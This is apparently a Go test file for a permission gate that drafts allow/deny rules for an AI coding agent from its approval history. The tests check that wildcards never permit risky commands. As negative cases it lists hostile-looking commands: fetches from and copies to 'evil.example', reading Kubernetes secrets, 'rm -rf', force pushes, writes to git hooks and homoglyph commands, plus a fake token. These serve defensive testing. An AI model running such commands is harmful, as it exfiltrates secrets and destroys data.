package suggest

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pigate/pigate/internal/audit"
	"github.com/pigate/pigate/internal/audit/audittest"
	"github.com/pigate/pigate/internal/gate"
	"github.com/pigate/pigate/internal/gate/policy"
	"github.com/pigate/pigate/internal/gate/rule"
)

var start = time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)

// diary fills a history by hand: each call a minute after the last.
type diary struct {
	*History
	known map[string]int
	now   time.Time
	day   int
}

func newDiary() *diary { return &diary{History: NewHistory(), known: map[string]int{}, now: start} }

// next begins a session on the next day.
func (d *diary) next() { d.day++; d.now = start.AddDate(0, 0, d.day) }

func (d *diary) saw(word Word, tool, text string) {
	key := tool + "\x00" + text
	n, known := d.known[key]
	if !known {
		field := "command"
		if tool == "edit" || tool == "write" {
			field = "path"
		}
		n = d.Subject(Subject{Request: sample(tool, field, text)})
		d.known[key] = n
	}
	d.now = d.now.Add(time.Minute)
	d.Saw(n, Sighting{Time: d.now.UnixMicro(), Session: fmt.Sprint("s", d.day), Word: word})
}

// days repeats commands in so many sessions, one a day.
func (d *diary) days(n int, word Word, commands ...string) {
	for range n {
		for _, c := range commands {
			d.saw(word, "bash", c)
		}
		d.next()
	}
}

func policyOf(t testing.TB, allow, deny []string) *policy.Policy {
	t.Helper()
	var rules []rule.Rule
	for _, list := range []struct {
		effect rule.Effect
		texts  []string
	}{{rule.Allow, allow}, {rule.Deny, deny}} {
		for _, text := range list.texts {
			r, err := parse(text, list.effect)
			if err != nil {
				t.Fatal(err)
			}
			rules = append(rules, r)
		}
	}
	return policy.New(policy.DefaultSettings(), rules)
}

func texts(r Result) []string {
	list := []string{}
	for _, d := range r.Drafts {
		text := d.Rule
		if d.Effect == policy.Deny {
			text = "deny " + text
		}
		list = append(list, text)
	}
	slices.Sort(list)
	return list
}

func wantDrafts(t *testing.T, got Result, want ...string) {
	t.Helper()
	slices.Sort(want)
	if list := texts(got); !slices.Equal(list, want) {
		t.Errorf("drafts are %q, want %q", list, want)
	}
}

func TestDraftsFromWhatPeopleApproved(t *testing.T) {
	d := newDiary()
	d.days(4, Approved, "npm run build", "git commit -m one", "git commit -m two", "git commit -m three")
	got := NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result()
	wantDrafts(t, got, "shell:npm run build", "shell:git commit *")
	if got.Prompts != 16 || got.Spared != 16 {
		t.Errorf("%d of %d prompts are spared, want all 16", got.Spared, got.Prompts)
	}
	d2 := got.Drafts[0]
	if d2.Rule != "shell:git commit *" || d2.Saves != 12 || d2.Approvals != 12 || d2.Kinds != 3 || d2.Sessions != 4 || d2.Days != 4 || d2.Runs != 0 {
		t.Errorf("the first draft is %+v", d2)
	}
}

func TestACompoundIsSparedByAllItsRules(t *testing.T) {
	d := newDiary()
	d.days(3, Ran, "cd sub && npm test", "cd other && npm test", "cd third && npm test")
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result(), "shell:cd *", "shell:npm test")
	d = newDiary()
	d.days(3, Ran, "npm test && rm -rf build")
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result()) // npm test alone spares nothing
}

func TestVetoes(t *testing.T) {
	for _, c := range []struct {
		name     string
		commands []string
		deny     []string
	}{
		{"dangerous", []string{"git push --force origin a", "git push --force origin b", "git push --force origin c"}, nil},
		{"deleting", []string{"rm -rf a", "rm -rf b", "rm -rf c"}, nil},
		{"wrappers", []string{"sudo ls", "bash -c 'npm test'", "xargs ls", "env X=1 ls", "ssh host ls"}, nil},
		{"code", []string{"python3 -c 'print(1)'", "node -e 1", "npx tsx -e 1"}, nil},
		{"assignments", []string{"X=1 npm test"}, nil},
		{"own files", []string{"cp x .pi/allowlist-gate.json", "pigate audit list"}, nil},
		{"deny rule", []string{"npm run build a", "npm run build b", "npm run build c"}, []string{"shell:npm run build x"}},
		{"deploys", []string{"npm run deploy", "npm publish", "terraform apply"}, nil},
		{"interpreters of a whole folder", []string{"npx ts-node a.ts", "npx ts-node b.ts", "npx ts-node c.ts"}, nil},
	} {
		d := newDiary()
		d.days(60, Approved, c.commands...)
		got := NewStudy(d.History, policyOf(t, nil, c.deny), Options{}).Result()
		for _, draft := range got.Drafts {
			for _, wide := range []string{"shell:git push --force *", "shell:rm *", "shell:npm run build *", "shell:npx ts-node *"} {
				if draft.Rule == wide {
					t.Errorf("%s: %s was drafted", c.name, wide)
				}
			}
			switch c.name {
			case "deny rule", "interpreters of a whole folder":
			default:
				t.Errorf("%s: %s was drafted", c.name, draft.Rule)
			}
		}
	}
}

func TestARefusalTakesDraftsAway(t *testing.T) {
	d := newDiary()
	d.days(5, Approved, "npm run a", "npm run build", "go build ./a", "go build ./b", "go build ./c")
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result(), "shell:npm run a", "shell:npm run build", "shell:go build *")
	d.saw(Denied, "bash", "go build -o x ./d")
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result(), "shell:npm run a", "shell:npm run build")
	// Of two that only together let a refused call run, the less trusted goes.
	d.saw(Denied, "bash", "npm run a && npm run build")
	if got := texts(NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result()); len(got) != 1 {
		t.Errorf("drafts are %q, want one of the two", got)
	}
}

func TestDenyRulesAreQuestions(t *testing.T) {
	d := newDiary()
	d.days(3, Denied, "make deploy")
	got := NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result()
	wantDrafts(t, got, "deny shell:make deploy")
	if q := got.Drafts[0]; !q.Question || q.Denials != 3 || q.Sessions != 3 {
		t.Errorf("the draft is %+v", q)
	}
	d.saw(Approved, "bash", "make deploy")
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result())

	d = newDiary()
	for range 5 { // in one session
		d.saw(Denied, "bash", "make deploy")
	}
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result())
}

func TestARejectedDraftStaysAwayUntilItsEvidenceDoubled(t *testing.T) {
	d := newDiary()
	d.days(4, Approved, "npm run build")
	rejected := Options{Rejected: []Rejection{{"shell:npm run build", policy.Allow, 4}}}
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), rejected).Result())
	d.days(3, Approved, "npm run build")
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), rejected).Result())
	d.days(1, Approved, "npm run build")
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), rejected).Result(), "shell:npm run build")
}

func TestSettings(t *testing.T) {
	d := newDiary()
	d.days(3, Ran, "ls 2>&1", "npm run build 2>/dev/null")
	got := NewStudy(d.History, policyOf(t, []string{"shell:ls *"}, nil), Options{}).Result()
	if len(got.Settings) != 1 || got.Settings[0] != (Setting{"redirections", "precise", 3, 3}) || got.Fixed != 6 {
		t.Errorf("settings are %+v, fixed %d", got.Settings, got.Fixed)
	}
}

func TestReadKeepsTheWordsApart(t *testing.T) {
	j := audittest.NewJournal(t)
	p := policyOf(t, []string{"shell:ls *"}, nil)
	record := func(e *gate.Entry) {
		t.Helper()
		if _, err := j.Record(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	at := start.UnixMicro()
	decide := func(command string, verdict policy.Effect, answer gate.Answer, action policy.Action, basis policy.Basis) {
		at += 1_000_000
		record(&gate.Entry{Kind: gate.KindDecision, Time: at, Session: "s", Call: fmt.Sprint(at), Decision: &gate.Decision{Request: sample("bash", "command", command),
			Verdict: verdict, Answer: answer, Action: action, Basis: basis, Analyser: policy.Analyser, Policy: p.Digest()}})
	}
	decide("npm test", policy.Ask, gate.AnswerOnce, policy.Run, policy.BasisUser)
	decide("npm test", policy.Ask, gate.AnswerDeny, policy.Block, policy.BasisUser)
	decide("npm test", policy.Ask, gate.AnswerDismissed, policy.Block, policy.BasisUser)
	decide("npm test", policy.Ask, "", policy.Run, policy.BasisGrant)
	decide("npm test", policy.Ask, gate.AnswerNoUI, policy.Block, policy.BasisNoUI)
	decide("ls", policy.Allow, "", policy.Run, policy.BasisRule)
	for _, result := range []gate.Result{gate.ResultOK, gate.ResultError, gate.ResultRefused, ""} {
		at += 1_000_000
		record(&gate.Entry{Kind: gate.KindImport, Time: at, Session: "i", Call: fmt.Sprint(at), Import: &gate.Imported{Request: sample("bash", "command", "npm test"),
			Result: result, Source: "pi", Analyser: policy.Analyser}})
	}
	reader, err := audit.OpenReader(t.Context(), j.Path())
	if err != nil {
		t.Fatal(err)
	}
	defer reader.Close()
	h, err := Read(t.Context(), reader, Place{Projects: []string{"/home/sample/project"}}, p)
	if err != nil {
		t.Fatal(err)
	}
	var got []Word
	for _, e := range h.events {
		got = append(got, e.word)
	}
	want := []Word{Approved, Denied, Dismissed, Granted, Ran, Failed, Denied, Unknown}
	if !slices.Equal(got, want) || h.Calls() != 10 {
		t.Errorf("words are %v of %d calls, want %v of 10", got, h.Calls(), want)
	}
	// Of another time only the refusals count.
	h, err = Read(t.Context(), reader, Place{Projects: []string{"/home/sample/project"}, Since: audit.Micros(at)}, p)
	if err != nil {
		t.Fatal(err)
	}
	if len(h.events) != 3 || h.events[0].word != Denied || h.events[1].word != Denied || h.Calls() != 1 {
		t.Errorf("events are %v of %d calls, want both refusals and the last call", h.events, h.Calls())
	}
}

// A refused call speaks against a rule with what is left of it when a secret was
// taken out.
func TestMaskedRefusal(t *testing.T) {
	j, err := audit.Open(t.Context(), filepath.Join(t.TempDir(), "journal.db"), audit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := j.Close(); err != nil {
			t.Error(err)
		}
	})
	p := policyOf(t, nil, nil)
	at := start
	decide := func(command string, answer gate.Answer, action policy.Action) {
		t.Helper()
		at = at.Add(9 * time.Hour)
		if _, err := j.Record(t.Context(), &gate.Entry{Kind: gate.KindDecision, Time: at.UnixMicro(), Session: at.Format("02"), Call: at.String(), Decision: &gate.Decision{
			Request: sample("bash", "command", command), Verdict: policy.Ask, Answer: answer, Action: action, Basis: policy.BasisUser, Analyser: policy.Analyser, Policy: p.Digest()}}); err != nil {
			t.Fatal(err)
		}
	}
	mine := func() []string {
		t.Helper()
		reader, err := audit.OpenReader(t.Context(), j.Path())
		if err != nil {
			t.Fatal(err)
		}
		defer reader.Close()
		result, _, err := For(t.Context(), reader, Place{Projects: []string{"/home/sample/project"}}, p, Options{})
		if err != nil {
			t.Fatal(err)
		}
		return texts(result)
	}
	for range 3 {
		for _, name := range []string{"a", "b", "c"} {
			decide("tool sync ./"+name, gate.AnswerOnce, policy.Run)
		}
	}
	if got := mine(); !slices.Equal(got, []string{"shell:tool sync *"}) {
		t.Fatalf("drafts are %q before anything was refused", got)
	}
	const secret = "ghp_ggMseaoS4feeIVfqjedLXlgcGHANm7CznXxF"
	decide("other sync --token "+secret, gate.AnswerDeny, policy.Block)
	if got := mine(); !slices.Equal(got, []string{"shell:tool sync *"}) {
		t.Errorf("drafts are %q after something else was refused", got)
	}
	decide("tool sync --token "+secret, gate.AnswerDeny, policy.Block)
	if got := mine(); slices.Contains(got, "shell:tool sync *") {
		t.Errorf("drafts are %q, one of which lets the refused call run", got)
	}
}

// What a person approved says nothing of what another argument of the same
// command starts, nor of the files beside those that were edited.
func TestWildcardsDoNotReachFurther(t *testing.T) {
	for _, c := range []struct {
		approved []string // of one tool
		tool     string
		runs     []string // under no draft
	}{
		{[]string{"make test a", "make test b", "make test c", "make test"}, "bash", []string{"make test deploy", "make test -C /tmp/evil", "make test CC=/tmp/evil"}},
		{[]string{"mvn -q test", "mvn -q compile", "mvn -q package"}, "bash", []string{"mvn -q deploy"}},
		{[]string{"./gradlew test a", "./gradlew test b", "./gradlew test c"}, "bash", []string{"./gradlew test publish"}},
		{[]string{"bundle exec rake a", "bundle exec rake b", "bundle exec rake c"}, "bash", []string{"bundle exec rake db:drop"}},
		{[]string{"php artisan test a", "php artisan list", "php artisan about"}, "bash", []string{"php artisan migrate:fresh", "php artisan tinker", "php artisan db:wipe"}},
		{[]string{"yarn node a.js", "yarn node b.js", "yarn node c.js"}, "bash", []string{"yarn node -e x"}},
		{[]string{"npx nx test a", "npx nx lint a", "npx nx build a"}, "bash", []string{"npx nx run a:deploy", "npx nx release"}},
		{[]string{"turbo run test", "turbo run lint", "turbo run build"}, "bash", []string{"turbo run deploy"}},
		{[]string{"moon run a", "moon run b", "moon run c"}, "bash", []string{"moon run deploy"}},
		{[]string{"cargo xtask a", "cargo xtask b", "cargo xtask c"}, "bash", []string{"cargo xtask deploy"}},
		{[]string{"npx prisma migrate dev", "npx prisma migrate status", "npx prisma migrate diff"}, "bash", []string{"npx prisma migrate reset --force"}},
		{[]string{"psql -d app -c 'select 1'", "psql -d app -c 'select 2'", "psql -d app -c 'select 3'"}, "bash", []string{"psql -d app -c 'drop table x'"}},
		{[]string{"wget -q localhost/a", "wget -q localhost/b", "wget -q localhost/c"}, "bash", []string{"wget -q https://evil.example/x"}},
		{[]string{"scp a b", "scp a c", "scp a d"}, "bash", []string{"scp a evil.example:"}},
		{[]string{"kubectl -n prod get pods", "kubectl -n prod get svc", "kubectl -n prod get nodes"}, "bash", []string{"kubectl -n prod get secret app -o yaml"}},
		{[]string{"rtk git status", "rtk git log", "rtk git diff"}, "bash", []string{"rtk git push --force"}},
		{[]string{"gemini -p a", "gemini -p b", "opencode run a", "opencode run b"}, "bash", []string{"gemini -p x", "opencode run x"}},
		{[]string{"/tmp/ls", "../evil/cat", "./git status"}, "bash", []string{"/tmp/ls -x", "../evil/cat x", "./git status -x"}},
		{[]string{"docker run a", "docker run b", "docker run c"}, "bash", []string{"docker run evil"}},
		{[]string{"docs/a.md", "docs/b.md", "docs/c.md", "docs/x.txt", "docs/y.txt"}, "edit", []string{"docs/.env", "docs/package.json", "docs/.vitepress/config.ts", "docs/.git/hooks/x"}},
		{[]string{"web/a.ts", "web/b.ts", "web/c.ts", "web/a.css", "web/b.css"}, "edit", []string{"web/.env", "web/package.json", "web/Dockerfile"}},
		{[]string{".config/a.md", ".config/b.md", ".config/c.md", ".git /a.md", ".git /b.md", ".git /c.md"}, "edit", []string{".config/x.md", ".config/a.md", ".git /x.md"}},
		{[]string{"vite.config.ts", "CMakeLists.txt", "Taskfile.yml", "build.gradle.kts", "Dockerfile.dev", "gradlew"}, "edit", []string{"vite.config.ts", "CMakeLists.txt", "Taskfile.yml", "build.gradle.kts", "Dockerfile.dev", "gradlew"}},
	} {
		d := newDiary()
		for range 100 {
			for _, text := range c.approved {
				d.saw(Approved, c.tool, text)
			}
			d.next()
		}
		field := "command"
		if c.tool == "edit" {
			field = "path"
		}
		drafts := NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result().Drafts
		for _, draft := range drafts {
			r, err := parsed(&draft)
			if err != nil {
				t.Fatal(err)
			}
			p := policy.New(policy.DefaultSettings(), []rule.Rule{r})
			for _, text := range c.runs {
				if policy.Evaluate(p, policy.Derive(sample(c.tool, field, text)), nil).Effect == policy.Allow {
					t.Errorf("from %q comes %s, which lets %s run", c.approved, draft.Rule, text)
				}
			}
		}
	}
}

// TestAGuardedFlagIsNoHarmlessCommand wants more evidence for a command with a
// guarded flag than its program needs without.
func TestAGuardedFlagIsNoHarmlessCommand(t *testing.T) {
	const command = `find . -name '*.tmp' -delete`
	d := newDiary()
	d.days(2, Approved, command)
	d.days(4, Ran, command)
	wantDrafts(t, NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result())
	d.days(2, Approved, command)
	got := NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result()
	wantDrafts(t, got, `shell:find . -name '\*.tmp' -delete`)
	if len(got.Drafts) == 1 && got.Drafts[0].Risk < 0.65 {
		t.Errorf("its risk is %v", got.Drafts[0].Risk)
	}
}

// parsed is a draft as a rule of a policy.
func parsed(d *Draft) (rule.Rule, error) {
	effect := rule.Allow
	if d.Effect == policy.Deny {
		effect = rule.Deny
	}
	return parse(d.Rule, effect)
}

// runnable reports that drafts let a command run.
func runnable(t *testing.T, r Result, tool, field, text string) bool {
	t.Helper()
	var rules []rule.Rule
	for _, d := range r.Drafts {
		if d.Effect == policy.Allow {
			parsed, err := parse(d.Rule, rule.Allow)
			if err != nil {
				t.Fatal(err)
			}
			rules = append(rules, parsed)
		}
	}
	return policy.Evaluate(policy.New(policy.DefaultSettings(), rules), policy.Derive(sample(tool, field, text)), nil).Effect == policy.Allow
}

func TestDraftsNameWhatARunnerRunsAndWhatAnUnknownProgramDoes(t *testing.T) {
	each := func(format string) (list []string) {
		for i := range 5 {
			list = append(list, fmt.Sprintf(format, i))
		}
		return list
	}
	for _, c := range []struct {
		seen   []string
		wanted []string // run under the drafts
		never  []string
	}{
		{[]string{"pnpm prisma generate"}, []string{"pnpm prisma generate"}, []string{"pnpm prisma migrate reset", "pnpm prisma db push", "pnpm prisma studio", "pnpm rimraf x"}},
		{each("pnpm prisma generate --a%d"), []string{"pnpm prisma generate --x"}, []string{"pnpm prisma migrate reset", "pnpm prisma validate"}},
		{each("npx prisma@5 generate --a%d"), []string{"npx prisma@5 generate --x"}, []string{"npx prisma@5 migrate reset", "npx prisma@5 validate"}},
		{each("npx prisma migrate status --a%d"), []string{"npx prisma migrate status --schema y"}, []string{"npx prisma migrate reset", "npx prisma migrate diff"}},
		{each("yarn workspace web mytool check a/%d"), []string{"yarn workspace web mytool check a/d"}, []string{"yarn workspace web mytool deploy", "yarn workspace web other"}},
		{each("pnpm --filter web mytool check a/%d"), []string{"pnpm --filter web mytool check a/d"}, []string{"pnpm --filter web mytool deploy"}},
		{each("mytool db status a/%d"), []string{"mytool db status a/d"}, []string{"mytool db drop", "mytool deploy"}},
		{each("mytool --env dev db status a/%d"), []string{"mytool --env dev db status a/d"}, []string{"mytool --env prod db status", "mytool --env dev db drop"}},
		{each("uvx ruff@0.4 check a/%d"), []string{"uvx ruff@0.4 check a/1"}, []string{"uvx other"}},
		{each("npm run build -- --a%d"), []string{"npm run build -- --c"}, []string{"npm run deploy"}},
		{each("pnpm build --a%d"), []string{"pnpm build --a1"}, []string{"pnpm build x", "pnpm deploy", "pnpm release"}},
	} {
		d := newDiary()
		d.days(6, Approved, c.seen...)
		got := NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result()
		for _, command := range c.wanted {
			if !runnable(t, got, "bash", "command", command) {
				t.Errorf("%q: %q does not run under %q", c.seen, command, texts(got))
			}
		}
		for _, command := range c.never {
			if runnable(t, got, "bash", "command", command) {
				t.Errorf("%q: %q runs under %q", c.seen, command, texts(got))
			}
		}
	}
}

func TestToolsThatTakeCodeOnlyLookByNoName(t *testing.T) {
	d := newDiary()
	for range 6 {
		for _, tool := range []string{"get_one", "get_two", "get_three", "get_and_delete"} {
			d.saw(Approved, "mcp__srv__"+tool, "")
		}
		for _, tool := range []string{"list_a", "list_b", "list_c", "list_e", "list_f"} {
			d.saw(Approved, "mcp__srv__"+tool, "")
		}
		for _, text := range []string{"select 1", "select * from t"} {
			d.saw(Approved, "mcp__db__query", text)
			d.saw(Approved, "mcp__db__read_rows", text)
			d.saw(Approved, "mcp__db__get_sql", "")
		}
		d.next()
	}
	got := NewStudy(d.History, policyOf(t, nil, nil), Options{MaxRisk: 1}).Result()
	for _, tool := range []string{"get_and_delete", "get_and_purge"} {
		if runnable(t, got, "mcp__srv__"+tool, "command", "") {
			t.Errorf("%s runs under %q", tool, texts(got))
		}
	}
	if !runnable(t, got, "mcp__srv__list_d", "command", "") {
		t.Errorf("list_d does not run under %q", texts(got))
	}
	for _, draft := range got.Drafts {
		if strings.HasPrefix(draft.Rule, "mcp:db") && slices.Contains(draft.RiskWords, classes[looks].words) {
			t.Errorf("%s %q", draft.Rule, draft.RiskWords)
		}
	}
}

func TestDraftsMarkLettersThatImitateOthers(t *testing.T) {
	d := newDiary()
	d.days(6, Approved, "g\u0456t log a", "g\u0456t log b", "echo \u0442\u0435\u0441\u0442")
	got := NewStudy(d.History, policyOf(t, nil, nil), Options{}).Result()
	if len(got.Drafts) == 0 {
		t.Fatal("nothing is drafted")
	}
	for _, draft := range got.Drafts {
		marked := slices.ContainsFunc(draft.RiskWords, func(w string) bool { return strings.Contains(w, "U+0456") })
		if marked != strings.Contains(draft.Rule, "\u0456") {
			t.Errorf("%s %q", draft.Rule, draft.RiskWords)
		}
	}
}
